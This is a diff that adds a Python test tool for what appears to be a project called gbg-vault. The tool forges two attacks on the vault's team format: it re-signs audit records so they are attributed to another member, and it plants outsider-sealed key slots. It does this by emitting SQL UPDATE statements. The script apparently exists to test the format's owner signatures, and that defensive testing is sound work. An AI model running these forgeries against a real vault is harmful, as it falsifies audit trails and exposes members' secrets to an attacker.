@@ -1,0 +1,106 @@
+#!/usr/bin/env python3
+"""Forges the two team attacks that format 4's owner signatures exist to stop, from
+outside gbg-vault's code (FORMAT.md and libsodium only), and prints the SQL that plants
+them. It reads a copy of the vault as an SQLite file (`vault copy` makes one of a team
+vault: the rows are the same) and writes UPDATE statements for `--dialect sqlite` (the
+file itself) or `--dialect pg` (the team vault's schema, via psql).
+
+  reattribute VAULT.db IDENTITY VICTIM
+      As the member whose identity file is IDENTITY (unsealed): open its key slot, give
+      member VICTIM a signing key the attacker made, recompute VICTIM's row MAC with the
+      metadata key every member holds, and re-sign as VICTIM every record the attacker
+      or VICTIM signed (the attacker's records now say VICTIM did them).
+
+  seal-outsider VAULT.db MEMBER
+      As someone with no key at all (a database administrator): seal keys of their own to
+      MEMBER's box key, with the binding, slot MAC and row MAC those keys give, so that
+      MEMBER would open the attacker's keys and seal whatever it adds under them.
+
+Test tool only: the keys it makes are thrown away; it prints no secret.
+"""
+import ctypes, json, os, sqlite3, sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "testvectors"))
+from generate import sodium, subkey, blake2b, s, d, i64, opt_i  # noqa: E402
+from open_vault import read_header, identity_secret, open_slot  # noqa: E402
+
+
+def sign_keypair():
+    pk, sk = ctypes.create_string_buffer(32), ctypes.create_string_buffer(64)
+    sodium.crypto_sign_keypair(pk, sk)
+    return pk.raw, sk.raw
+
+
+def sign(message, sk):
+    sig = ctypes.create_string_buffer(64)
+    sodium.crypto_sign_detached(sig, None, message, ctypes.c_ulonglong(len(message)), sk)
+    return sig.raw
+
+
+def seal_box(message, pk):
+    out = ctypes.create_string_buffer(len(message) + 48)
+    sodium.crypto_box_seal(out, message, ctypes.c_ulonglong(len(message)), pk)
+    return out.raw
+
+
+def literal(b, dialect):
+    return f"X'{b.hex()}'" if dialect == "sqlite" else f"'\\x{b.hex()}'::bytea"
+
+
+def member_mac(h, row, meta_key):
+    (name, uid, kind, box_pk, sign_pk, added, removed, created) = row
+    return blake2b(s("gbg-vault/v3 member") + d(h["vid"]) + s(name) + d(uid) + s(kind) + d(box_pk) + d(sign_pk)
+                   + i64(added) + opt_i(removed) + s(created), meta_key)
+
+
+MEMBER_COLS = "name, uid, kind, box_public_key, sign_public_key, added_seq, removed_seq, created_at"
+
+
+def reattribute(db, h, identity_path, victim, dialect):
+    attacker, data_key, _ = open_slot(db, h, identity_secret(identity_path))
+    meta_key = subkey(data_key, 1, b"gbgvmeta")
+    row = db.execute(f"SELECT {MEMBER_COLS} FROM member WHERE name = ?", (victim,)).fetchone()
+    assert row is not None, f"no member {victim}"
+    pk, sk = sign_keypair()
+    forged = row[:4] + (pk,) + row[5:]
+    out = [f"UPDATE member SET sign_public_key = {literal(pk, dialect)}, mac = {literal(member_mac(h, forged, meta_key), dialect)} "
+           f"WHERE name = '{victim}';"]
+    resigned = []
+    for (seq, mac) in db.execute("SELECT seq, mac FROM audit_record WHERE member IN (?, ?) ORDER BY seq", (attacker, victim)):
+        sig = sign(s("gbg-vault/v3 audit-signature") + d(h["vid"]) + i64(seq) + s(victim) + d(mac), sk)
+        out.append(f"UPDATE audit_record SET member = '{victim}', signature = {literal(sig, dialect)} WHERE seq = {seq};")
+        resigned.append(seq)
+    return out, {"attacker": attacker, "victim": victim, "resigned": resigned}
+
+
+def seal_outsider(db, h, member, dialect):
+    (name, uid, kind, box_pk, sign_pk, added, removed, created) = db.execute(
+        f"SELECT {MEMBER_COLS} FROM member WHERE name = ?", (member,)).fetchone()
+    data_key, audit_key = os.urandom(32), os.urandom(32)
+    meta_key = subkey(data_key, 1, b"gbgvmeta")
+    epoch = h["epoch"]
+    binding = blake2b(s("gbg-vault/v3 key-slot") + d(h["vid"]) + i64(epoch) + s(name) + d(uid) + d(box_pk) + d(data_key) + d(audit_key))
+    sealed = seal_box(data_key + audit_key + binding, box_pk)
+    slot_mac = blake2b(s("gbg-vault/v3 key-slot-mac") + d(h["vid"]) + s(name) + d(uid) + i64(epoch) + d(sealed), meta_key)
+    row_mac = member_mac(h, (name, uid, kind, box_pk, sign_pk, added, removed, created), meta_key)
+    return [f"UPDATE key_slot SET sealed = {literal(sealed, dialect)}, mac = {literal(slot_mac, dialect)} WHERE member = '{name}';",
+            f"UPDATE member SET mac = {literal(row_mac, dialect)} WHERE name = '{name}';"], {"member": name}
+
+
+def main():
+    mode, path = sys.argv[1], sys.argv[2]
+    dialect = sys.argv[sys.argv.index("--dialect") + 1] if "--dialect" in sys.argv else "sqlite"
+    db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
+    h = read_header(db, True)
+    if mode == "reattribute":
+        statements, summary = reattribute(db, h, sys.argv[3], sys.argv[4], dialect)
+    elif mode == "seal-outsider":
+        statements, summary = seal_outsider(db, h, sys.argv[3], dialect)
+    else:
+        sys.exit(f"unknown mode {mode}")
+    sys.stderr.write(json.dumps(summary) + "\n")
+    print("\n".join(statements))
+
+
+if __name__ == "__main__":
+    main()
